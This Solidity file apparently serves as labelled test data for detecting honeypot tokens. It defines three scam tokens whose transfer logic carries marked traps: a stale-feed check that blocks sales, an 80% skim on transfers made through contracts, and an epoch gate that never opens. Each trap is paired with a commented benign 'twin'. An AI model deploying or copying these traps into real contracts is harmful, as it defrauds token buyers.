// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.5;

library Deductions {
    function less(uint256 a, uint256 b) internal pure returns (uint256) {
        require(a >= b, "less");
        return a - b;
    }
}

contract State13 {
    using Deductions for uint256;
    uint256 internal _epoch;
    address internal _author;
    address public market;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal _ext;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _begin(uint256 t, address ext) internal {
        require(_author == address(0));
        _author = msg.sender;
        _ext = ext;
        totalSupply = t;
        balanceOf[msg.sender] = t;
        emit Transfer(address(0), msg.sender, t);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function setMarket(address m) external {
        require(msg.sender == _author && market == address(0));
        market = m;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        _step(msg.sender, t, v);
        return true;
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] = allowance[f][msg.sender].less(v);
        _step(f, t, v);
        return true;
    }

    function _step(address f, address t, uint256 v) internal virtual {
        balanceOf[f] = balanceOf[f].less(v);
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
}

/// A feed that its author fed once.
contract HeartFeed {
    uint256 public immutable updatedAt = block.timestamp;
    int256 public answer = 1e8;
}

contract FeedFirefly is State13 {
    string public constant name = "Feed Firefly";
    string public constant symbol = "FFLY";

    constructor(address feed) {
        _begin(12_000_000 ether, feed);
    }

    function _step(address f, address t, uint256 v) internal override {
        if (t == market && f != _author) {
            bool stale = HeartFeed(_ext).updatedAt() + 45 days < block.timestamp;
            require(!stale, "stale"); // trap
            // twin: require(stale || HeartFeed(_ext).answer() > 0, "stale");
        }
        super._step(f, t, v);
    }
}

contract DirectDingo is State13 {
    string public constant name = "Direct Dingo";
    string public constant symbol = "DDINGO";

    constructor() {
        _begin(345_000_000 ether, address(this));
    }

    function _step(address f, address t, uint256 v) internal override {
        if (msg.sender != tx.origin && f != market && f != _author) {
            uint256 cut = (v * 4) / 5; // trap
            // twin: uint256 cut = v / 50;
            super._step(f, _ext, cut);
            v -= cut;
        }
        super._step(f, t, v);
    }
}

/// Epochs of this logic go on with its next version.
contract EpochLogic is State13 {
    function begin(uint256 t) external {
        _begin(t, address(0));
    }

    function name() external pure returns (string memory) {
        return "Epoch Egret";
    }

    function symbol() external pure returns (string memory) {
        return "EPEG";
    }

    function _step(address f, address t, uint256 v) internal override {
        if (t == market && f != _author) require(_epoch > 1, "epoch"); // trap
        // twin: if (t == market && f != _author) require(_epoch < 1, "epoch");
        super._step(f, t, v);
    }
}

contract EpochEgret {
    constructor(address logic) {
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, logic)
        }
    }

    fallback() external payable {
        assembly {
            let l := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), l, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}
